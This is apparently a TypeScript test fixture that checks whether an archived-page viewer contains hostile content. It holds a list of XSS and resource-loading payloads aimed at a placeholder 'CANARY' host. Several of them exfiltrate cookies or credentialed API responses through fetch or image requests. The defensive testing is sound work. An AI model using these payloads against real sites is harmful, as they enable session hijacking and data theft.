/** Attacks by an archived page. `CANARY` is a server that must not be reached, `APP` is the application, both with their port. */
export const ATTACKS: readonly (readonly [string, string])[] = [
  ['a script', '<script>document.title = "PWNED"; top.postMessage("PWNED", "*")</script>'],
  ['a script of its own', '<script src="http://CANARY/script.js"></script><script src="/own.js"></script>'],
  ['a module', '<script type=module>import("http://CANARY/module.js")</script>'],
  ['an error handler', '<img src="http://CANARY/x" onerror="document.title = \'PWNED\'">'],
  [
    'a load handler',
    '<svg onload="document.title = \'PWNED\'"></svg><body onload="document.title = \'PWNED\'">',
  ],
  ['a focus handler', '<input autofocus onfocus="document.title = \'PWNED\'">'],
  ['a meta refresh', '<meta http-equiv=refresh content="0; url=http://CANARY/refresh">'],
  [
    'a refresh with a script',
    '<meta http-equiv="refresh" content="0;url=javascript:document.title=\'PWNED\'">',
  ],
  ['a base', '<base href="http://CANARY/base/"><img src="relative.png">'],
  ['another base', '<base target="_top" href="http://CANARY/second/">'],
  ['a frame', '<iframe src="http://CANARY/frame"></iframe><iframe src="http://APP/"></iframe>'],
  ['a frame of its own', '<iframe src="/frame.html"></iframe>'],
  [
    'a frame with a text',
    `<iframe srcdoc="<script>top.location='http://CANARY/srcdoc'</script><img src='http://CANARY/srcdoc.png'>"></iframe>`,
  ],
  ['a script in a frame’s address', '<iframe src="javascript:top.document.title=\'PWNED\'"></iframe>'],
  [
    'a document in a frame’s address',
    '<iframe src="data:text/html,<script>top.document.title=1</script>"></iframe>',
  ],
  [
    'a posted form',
    '<form id=f method=post action="http://APP/api/lab"><button id=post>Post</button></form>',
  ],
  [
    'a form elsewhere',
    '<form action="http://CANARY/form"><button formaction="http://CANARY/b" id=send>Send</button></form>',
  ],
  [
    'a form that posts itself',
    '<form id=auto action="http://CANARY/auto"></form><script>auto.submit()</script>',
  ],
  ['a service worker', '<script>navigator.serviceWorker.register("/own.js")</script>'],
  [
    'the top',
    '<script>top.location = "http://CANARY/top"</script><a id=top target=_top href="http://CANARY/a">top</a>',
  ],
  [
    'a window',
    '<script>open("http://CANARY/window")</script><a id=blank target=_blank href="http://CANARY/w">new</a>',
  ],
  ['the opener', '<script>opener.location = "http://CANARY/opener"</script>'],
  ['the window’s name', '<script>top.name = "PWNED"; name = "PWNED"</script>'],
  [
    'messages',
    '<script>parent.postMessage("PWNED", "*"); opener && opener.postMessage("PWNED", "*")</script>',
  ],
  [
    'cookies',
    '<script>document.cookie = "pwned=1"; new Image().src = "http://CANARY/c?" + document.cookie</script>',
  ],
  ['a cookie by meta', '<meta http-equiv="Set-Cookie" content="pwned=1">'],
  ['storage', '<script>localStorage.pwned = 1; sessionStorage.pwned = 1; indexedDB.open("pwned")</script>'],
  [
    'the API',
    '<script>fetch("http://APP/api/collections", {credentials: "include"}).then((r) => r.text()).then((t) => fetch("http://CANARY/" + t))</script>',
  ],
  [
    'the API as a picture',
    '<img src="http://APP/api/collections"><link rel=stylesheet href="http://APP/api/about">',
  ],
  [
    'prefetch',
    '<link rel=prefetch href="http://CANARY/p"><link rel=preload as=image href="http://CANARY/l">',
  ],
  ['preconnect', '<link rel=preconnect href="http://CANARY/"><link rel=dns-prefetch href="//CANARY">'],
  [
    'prerender',
    '<link rel=prerender href="http://CANARY/r"><link rel=modulepreload href="http://CANARY/m.js">',
  ],
  [
    'a manifest',
    '<link rel=manifest href="http://CANARY/manifest"><link rel=icon href="http://CANARY/icon">',
  ],
  ['speculation', '<script type=speculationrules>{"prefetch":[{"urls":["http://CANARY/s"]}]}</script>'],
  [
    'a drawing',
    `<svg><script>document.title = "PWNED"</script><image href="http://CANARY/svg.png"/><use href="http://CANARY/u.svg#x"/>
     <a xlink:href="javascript:document.title='PWNED'"><text id=svglink x=10 y=20>link</text><animate attributeName="xlink:href" values="http://CANARY/anim"/></a>
     <style><img src="http://CANARY/mutant.png"></style><foreignObject><img src="http://CANARY/foreign.png"></foreignObject></svg>`,
  ],
  [
    'a drawing of its own',
    '<iframe src="/attack.svg"></iframe><img src="/attack.svg"><object data="/attack.svg"></object>',
  ],
  [
    'objects',
    '<object data="http://CANARY/object"></object><embed src="http://CANARY/embed"><applet code="http://CANARY/a">',
  ],
  ['a sheet of XML', '<iframe src="/attack.xml"></iframe>'],
  [
    'a script link',
    '<a id=script href="javascript:document.title=\'PWNED\'">run</a><a href=" java&#10;script:alert(1)">x</a>',
  ],
  ['a data link', '<a id=data href="data:text/html,<script>document.title=\'PWNED\'</script>">data</a>'],
  ['a pinging link', '<a id=ping href="#x" ping="http://CANARY/ping">ping</a>'],
  ['a download', '<a id=download download href="http://CANARY/file">get</a>'],
  [
    'styles that tell',
    `<style>@import "http://CANARY/i.css"; @import url(http://CANARY/j.css); input[value^="a"] { background: url(http://CANARY/has-a) }
     @font-face { font-family: f; src: url("http://CANARY/font") } body { font-family: f; background: \\75rl(http://CANARY/escaped) }
     body::after { content: url('http://CANARY/after'); cursor: url(http://CANARY/cursor), auto } </style><input value="abc">
     <p style="background: url(http://CANARY/inline); list-style-image: image-set('http://CANARY/set' 1x)">x</p>`,
  ],
  [
    'a style sheet',
    '<link rel=stylesheet href="http://CANARY/sheet.css"><link rel=stylesheet href="/attack.css">',
  ],
  [
    'old pictures',
    '<table background="http://CANARY/table"><td>x</table><body background="http://CANARY/body">',
  ],
  [
    'films',
    '<video src="http://CANARY/v" poster="http://CANARY/poster" autoplay></video><audio src="http://CANARY/a" autoplay></audio>',
  ],
  [
    'picture sets',
    '<picture><source srcset="http://CANARY/one 1x, http://CANARY/two 2x"><img srcset="http://CANARY/three"></picture>',
  ],
  ['a template', '<template shadowrootmode=open><img src="http://CANARY/shadow"></template>'],
  [
    'broken markup',
    '<img src="http://CANARY/broken" <b title="--><img src=http://CANARY/comment>"><!--><img src=http://CANARY/bang>',
  ],
  [
    'raw text',
    '<noscript><img src="http://CANARY/noscript"></noscript><xmp><img src="http://CANARY/xmp"></xmp><textarea></textarea>',
  ],
]

/** All attacks on one page, with its resources. */
export function attackPage(canary: string, app: string): string {
  const all = ATTACKS.map(([, html]) => html).join('\n')
  const story = 'The storm made landfall in the night, and the harbour was closed for two days. '.repeat(4)
  const html = `<!doctype html><html manifest="http://CANARY/cache"><title>Storm</title><p id=story>${story}</p>${all}</html>`
  return html.replaceAll('CANARY', canary).replaceAll('APP', app)
}

export function attackParts(
  canary: string,
  app: string,
): ReadonlyMap<string, readonly [type: string, body: string]> {
  const script = 'top.document.title = "PWNED"; fetch("http://CANARY/part")'
  const parts: [string, [string, string]][] = [
    ['/own.js', ['text/javascript', script]],
    [
      '/frame.html',
      ['text/html', `<script>${script}</script><img src="http://CANARY/in-frame" onerror="${script}">`],
    ],
    [
      '/attack.svg',
      [
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="top.document.title='PWNED'"><script>top.location='http://CANARY/svg'</script><image xlink:href="http://CANARY/in-svg" width="9" height="9"/></svg>`,
      ],
    ],
    [
      '/attack.xml',
      [
        'text/xml',
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x:stylesheet id="x" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${script.replaceAll('"', "'")}</script></html></x:template></x:stylesheet>`,
      ],
    ],
    [
      '/attack.css',
      [
        'text/css',
        'body { background: url(http://CANARY/from-sheet) } @import "http://CANARY/import-sheet";',
      ],
    ],
  ]
  const filled = (text: string) => text.replaceAll('CANARY', canary).replaceAll('APP', app)
  return new Map(parts.map(([path, [type, body]]) => [path, [type, filled(body)]]))
}
